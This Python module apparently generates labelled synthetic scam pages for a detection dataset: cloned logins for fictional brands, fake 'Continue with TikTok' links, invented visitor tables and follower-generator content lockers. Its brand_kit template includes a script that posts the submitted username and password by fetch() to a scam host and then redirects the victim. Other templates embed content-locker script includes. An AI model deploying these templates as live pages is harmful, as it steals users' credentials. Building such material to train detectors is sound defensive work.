"""Scam page templates: other-brand login kits, fake "Continue with TikTok", viewer tables, radio lockers.

Other-brand kits clone the login of a (fictional) social, payment or game site and post the
password to the kit or off-site; their benign twins are the brands' own login pages
(``pages_benign_brands``), with the same form words, so the form alone is no evidence.
"""

from __future__ import annotations

import random

from data.generator.common import esc
from data.generator.pages_hosts import Loc, scam_host, scam_loc
from data.generator.pages_kit import LOGIN, LURES, Family, pick, shuffled
from data.generator.pages_scam_phish import CONNECT
from data.generator.pages_skeletons import Page

# Fictional brands (no real company): name, own login host, login path.
BRANDS: tuple[tuple[str, str, str], ...] = (
    ("Snapwave", "accounts.snapwave.com", "/login"),
    ("Chirpr", "chirpr.net", "/i/flow/login"),
    ("Streamora", "www.streamora.tv", "/signin"),
    ("Paylantic", "www.paylantic.com", "/signin"),
    ("Gamevault", "store.gamevault.gg", "/login/"),
    ("Blockrift", "www.blockrift.com", "/login"),
    ("Facenest", "www.facenest.com", "/login/"),
    ("Pixagram", "www.pixagram.app", "/accounts/login/"),
)

KIT_LURE = {
    "en": ("Get 5,000 free {b} followers", "Verified badge for {b}", "{b} security check",
           "Vote for me! Log in with {b} to vote"),
    "de": ("Hol dir 5.000 kostenlose {b}-Follower", "Verifizierungsabzeichen für {b}",
           "{b} Sicherheitsprüfung", "Stimm für mich ab! Mit {b} anmelden"),
    "fr": ("Obtenez 5 000 abonnés {b} gratuits", "Badge vérifié pour {b}",
           "Contrôle de sécurité {b}", "Votez pour moi ! Connectez-vous avec {b}"),
    "es": ("Consigue 5.000 seguidores gratis en {b}", "Insignia verificada de {b}",
           "Control de seguridad de {b}", "¡Vota por mí! Inicia sesión con {b}"),
    "tr": ("Ücretsiz 5.000 {b} takipçisi kazan", "{b} için mavi tik",
           "{b} güvenlik kontrolü", "Bana oy ver! {b} ile giriş yap"),
}  # fmt: skip


def brand_form(rng: random.Random, lang: str, brand: str, action: str, *, fid: str = "f") -> str:
    """A brand's username + password form in the words of TikTok's own login, brand swapped in."""
    title, user, pw, forgot, submit, signup = LOGIN[lang]
    logo = pick(
        rng,
        (
            f'<img class="logo" src="/img/{brand.lower()}-logo.png" alt="{brand}" width="120">',
            f'<div class="logo">{brand}</div>',
        ),
    )
    uname = pick(rng, ("email", "username", "login", "identifier"))
    pname = pick(rng, ("pass", "password", "pwd"))
    return (
        f'{logo}<form id="{fid}" action="{esc(action)}" method="post"><h2>{esc(title.replace("TikTok", brand))}</h2>'
        f'<input type="text" name="{uname}" placeholder="{esc(user)}" autocomplete="username">'
        f'<input type="password" name="{pname}" placeholder="{esc(pw)}" autocomplete="current-password">'
        f'<button type="submit">{esc(submit)}</button><a href="#" class="forgot">{esc(forgot)}</a>'
        f'<p class="signup">{esc(signup)}</p></form>'
    )


def brand_kit(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    brand = pick(rng, BRANDS)[0]
    lure = pick(rng, KIT_LURE[lang]).format(b=brand)
    roll = rng.random()
    tail = ""
    if roll < 0.4:
        action = pick(rng, ("login.php", "post.php", "index2.php", "./next.php"))
    elif roll < 0.7:
        action = f"https://{scam_host(rng, ('secure', 'verify', 'check'))}/{pick(rng, ('p.php', 'save', 'api/in'))}"
    else:
        action = "#"
        tail = (
            "<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();"
            f"fetch('https://{scam_host(rng)}/save.php',{{method:'POST',body:new FormData(this)}})"
            f".then(function(){{location.href='https://{pick(rng, BRANDS)[1]}/'}})}}</script>"
        )
    head = f"<h1>{esc(lure)}</h1>" if rng.random() < 0.75 else ""
    body = head + brand_form(rng, lang, brand, action)
    return Page(f"{brand} - {lure}", body, lang, brand, tail=tail), scam_loc(
        rng, pick(rng, ("/", "/login", "/vote/", "/verify"))
    )


OAUTH_BTN = {
    "en": "Continue with TikTok",
    "de": "Weiter mit TikTok",
    "fr": "Continuer avec TikTok",
    "vi": "Tiếp tục với TikTok",
    "id": "Lanjutkan dengan TikTok",
}


def fake_oauth(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    """A "connect" button to a look-alike authorize page, or to TikTok asking for impossible scopes."""
    if rng.random() < 0.5:
        host = scam_host(rng, ("auth", "oauth", "connect", "login"))
        href = (
            f"https://{host}/oauth/authorize?client_id={rng.randint(100, 99999)}"
            f"&scope=user.viewers,profile.visitors&redirect_uri=https://{scam_host(rng)}/cb"
        )
    else:
        href = (
            "https://www.tiktok.com/v2/auth/authorize/?client_key=YOUR_CLIENT_KEY&response_type=code"
            f"&scope=user.info.basic,video.publish,video.upload&redirect_uri=https://{scam_host(rng)}/cb"
        )
    title = pick(rng, LURES[lang][:3])
    n = rng.randint(5, 60)
    body = (
        f"<h1>{esc(title)}</h1><p>{esc(pick(rng, CONNECT[lang]))}</p>"
        f'<p class="hint"><b>{n}</b> 👀</p><a class="btn" href="{esc(href)}">{esc(OAUTH_BTN[lang])}</a>'
    )
    return Page(title, body, lang, "TikTok"), scam_loc(rng, "/connect")


TABLE = {
    "en": ("Username", "Check", "Visited", "Last 24 hours", "Verify you are human to see all names"),
    "de": ("Benutzername", "Prüfen", "Besucht", "Letzte 24 Stunden", "Bestätige, dass du ein Mensch bist, um alle Namen zu sehen"),
    "fr": ("Nom d'utilisateur", "Vérifier", "Visite", "Dernières 24 heures", "Prouvez que vous êtes humain pour voir tous les noms"),
    "id": ("Nama pengguna", "Cek", "Berkunjung", "24 jam terakhir", "Verifikasi bahwa kamu manusia untuk melihat semua nama"),
    "tr": ("Kullanıcı adı", "Kontrol et", "Ziyaret", "Son 24 saat", "Tüm isimleri görmek için insan olduğunu doğrula"),
}  # fmt: skip
HANDLES = ("luna", "kai", "mira", "dede", "zeyn", "noor", "tomi", "ana", "bao", "lea", "emre")


def viewer_table(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    """A form for any username and a table of invented "visitors" with times."""
    user, check, visited, window, verify = TABLE[lang]
    rows = "".join(
        f"<tr><td>@{pick(rng, HANDLES)}{rng.randint(1, 999)}</td><td>{rng.randint(1, 23)}h</td></tr>"
        for _ in range(rng.randint(4, 10))
    )
    title = pick(rng, LURES[lang][:3])
    body = (
        f"<h1>{esc(title)}</h1><form><input name='username' placeholder='@{esc(user)}'>"
        f"<button type='button'>{esc(check)}</button></form>"
        f"<h3>{esc(window)}</h3><table class='results'><tr><th>{esc(user)}</th><th>{esc(visited)}</th></tr>{rows}</table>"
    )
    if rng.random() < 0.5:
        body += f"<p class='locked'>🔒 {esc(verify)}</p>"
    return Page(title, body, lang, "Viewer"), scam_loc(rng, "/results")


STEPS = {
    "en": ("Connecting to server", "Adding followers", "Human verification required", "Generate"),
    "de": ("Verbindung zum Server", "Follower werden hinzugefügt", "Menschliche Überprüfung erforderlich", "Generieren"),
    "fr": ("Connexion au serveur", "Ajout des abonnés", "Vérification humaine requise", "Générer"),
    "tr": ("Sunucuya bağlanılıyor", "Takipçiler ekleniyor", "İnsan doğrulaması gerekli", "Oluştur"),
    "vi": ("Đang kết nối máy chủ", "Đang thêm người theo dõi", "Cần xác minh bạn là người", "Tạo"),
}  # fmt: skip
NETWORKS = (
    '<script src="https://d1y3bjxf.cloudfront.net/public/external/check2.php?id={n}"></script><script>var _JF=1;</script>',
    '<script src="https://pagelocked.org/cp/js/{n}.js"></script>',
    '<script src="https://www.cpagrip.com/script_include.php?id={n}"></script>',
    "<script>function CPBContentLocker(){{}}</script>",
    '<a href="https://applocked.org/cl/i/{n}">✔</a>',
    "",
)


def radio_locker(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    """Pick an amount, watch a progress bar, then a locker asks for "human verification"."""
    connect, adding, verify, generate = STEPS[lang]
    amounts = "".join(
        f'<label><input type="radio" name="amount" value="{a}"> {a}</label>'
        for a in shuffled(rng, ("1000", "5000", "10000", "25000", "50000"))[:3]
    )
    steps = "".join(f"<li>{esc(s)}</li>" for s in (connect, adding, verify))
    body = (
        f"<h1>{esc(LURES[lang][3])}</h1><form><input name='username' placeholder='@username'>{amounts}"
        f"<button type='button'>{esc(generate)}</button></form><div class='bar'></div>"
        f"<ol class='steps'>{steps}</ol><div class='locker' hidden><p>{esc(verify)}</p></div>"
    )
    if rng.random() < 0.5:
        body += f"<div class='live'>@{pick(rng, HANDLES)}{rng.randint(1, 99)} +5000 ❤️</div>"
    tail = pick(rng, NETWORKS).format(n=rng.randint(1000, 9999)) + (
        "<script>var p=0;setInterval(function(){p+=7;document.querySelector('.bar').style.width=p+'%'},300)</script>"
    )
    return Page(LURES[lang][3], body, lang, "Followers", tail=tail), scam_loc(
        rng, "/" + pick(rng, ("", "free/", "generator/"))
    )


def families() -> list[Family]:
    s, ph = "scam", "credential_phishing"
    return [
        Family("page-phish-brandkit", s, ph, ("de", "fr", "en", "es", "tr"), 10, brand_kit),
        Family("page-phish-fakeoauth", s, ph, ("fr", "de", "vi", "id", "en"), 8, fake_oauth),
        Family(
            "page-spy-table", s, "spy_report_fabricated", ("de", "fr", "id", "tr"), 8, viewer_table
        ),
        Family("page-locker-radio", s, "content_locker", ("fr", "de", "tr", "vi"), 8, radio_locker),
    ]
